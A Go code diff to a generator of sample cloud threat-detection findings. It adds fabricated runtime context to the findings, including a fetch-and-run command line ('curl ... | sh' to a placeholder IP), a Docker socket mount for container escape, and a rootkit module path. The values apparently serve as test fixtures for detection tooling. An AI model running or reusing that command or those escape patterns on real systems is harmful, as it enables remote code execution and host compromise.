@@ -15,7 +15,9 @@ func (s sample) service(detector string) object {
 	switch {
 	case s.ResourceType == "AttackSequence", s.ResourceType == "CustomDetectionRule":
 		service["detection"] = object{"sequence": s.sequence()}
-		delete(service, "resourceRole")
+		for _, absent := range []string{"resourceRole", "eventFirstSeen", "eventLastSeen"} {
+			delete(service, absent)
+		}
 	case s.isMalwareOnVolume():
 		service["ebsVolumeScanDetails"] = s.volumeScan()
 	case s.isMalware():
@@ -24,12 +26,29 @@ func (s sample) service(detector string) object {
 		service["runtimeDetails"] = object{"process": object{
 			"name": "kworker", "executablePath": "/tmp/.x/kworker", "executableSha256": s.digest, "pid": 4711, "user": "root",
 			"startTime": s.ago(31 * time.Minute), "pwd": "/tmp/.x",
-		}}
+		}, "context": s.runtimeContext()}
 		delete(service, "resourceRole")
 	default:
 		service["action"] = s.action()
 	}
 	return service
+}
+
+// runtimeContext gives what the process did, where the type tells.
+func (s sample) runtimeContext() object {
+	switch {
+	case strings.Contains(s.artefact, "Command"), strings.Contains(s.artefact, "Shell"), strings.Contains(s.artefact, "Tool"):
+		return object{"commandLineExample": "sh -c 'curl -s http://203.0.113.66/x | sh'"}
+	case strings.Contains(s.artefact, "Injection"):
+		return object{"targetProcess": object{"name": "sshd", "executablePath": "/usr/sbin/sshd", "pid": 812}}
+	case strings.Contains(s.artefact, "Mount"), strings.Contains(s.artefact, "Docker"), strings.Contains(s.artefact, "Escape"):
+		return object{"mountSource": "/var/run/docker.sock", "mountTarget": "/host.sock"}
+	case strings.Contains(s.artefact, "File"), strings.Contains(s.artefact, "Binary"), strings.Contains(s.artefact, "Miner"):
+		return object{"threatFilePath": "/tmp/.x/kworker"}
+	case strings.Contains(s.artefact, "Module"):
+		return object{"moduleName": "example_rootkit", "moduleFilePath": "/tmp/.x/example_rootkit.ko"}
+	}
+	return object{}
 }
 
 func (s sample) isMalware() bool {
@@ -128,38 +147,5 @@ func remote() object {
 	return object{
 		"ipAddressV4": remoteIP, "country": object{"countryName": "GeneratedFindingCountryName"}, "city": object{"cityName": "GeneratedFindingCityName"},
 		"geoLocation": object{"lat": 0.0, "lon": 0.0}, "organization": object{"asn": "64500", "asnOrg": "Example Telecom", "isp": "Example Telecom", "org": "Example Telecom"},
-	}
-}
-
-// sequence serves attack sequences and custom detection rules.
-func (s sample) sequence() object {
-	return object{
-		"uid": s.digest[:32], "description": "Signals that belong together.",
-		"actors": []object{{"id": "actor-1", "user": object{
-			"name": "deploy", "uid": "AIDAEXAMPLE", "type": "IAMUser", "credentialUid": "GeneratedFindingAccessKeyId",
-			"account": object{"uid": s.Account, "account": "example"},
-		}}},
-		"resources": []object{
-			{"uid": s.globalARN("s3", "example-invoices"), "name": "example-invoices", "resourceType": "S3_BUCKET", "accountId": s.Account, "region": s.Region},
-			{"uid": "GeneratedFindingAccessKeyId", "name": "deploy", "resourceType": "ACCESS_KEY", "accountId": s.Account, "region": s.Region},
-		},
-		"endpoints": []object{{"id": "endpoint-1", "ip": remoteIP, "location": object{"country": "GeneratedFindingCountryName"}, "autonomousSystem": object{"name": "Example Telecom", "number": 64500}}},
-		"signals": []object{
-			s.signal("Access key used from a Tor exit node", "FINDING", 40*time.Minute),
-			s.signal("StopLogging called on the trail of the account", "CLOUD_TRAIL", 25*time.Minute),
-			s.signal("1,204 objects read from example-invoices", "S3_DATA_EVENTS", 10*time.Minute),
-		},
-		"sequenceIndicators": []object{
-			{"key": "ATTACK_TACTIC", "title": "Tactics", "values": []string{"Defense Evasion", "Discovery", "Exfiltration"}},
-			{"key": "MALICIOUS_IP", "title": "Malicious addresses", "values": []string{remoteIP}},
-		},
-	}
-}
-
-func (s sample) signal(name, kind string, ago time.Duration) object {
-	at := s.ago(ago)
-	return object{
-		"uid": name, "name": name, "type": kind, "description": name, "severity": s.severity(), "count": 1,
-		"createdAt": at, "updatedAt": at, "firstSeenAt": at, "lastSeenAt": at,
 	}
 }
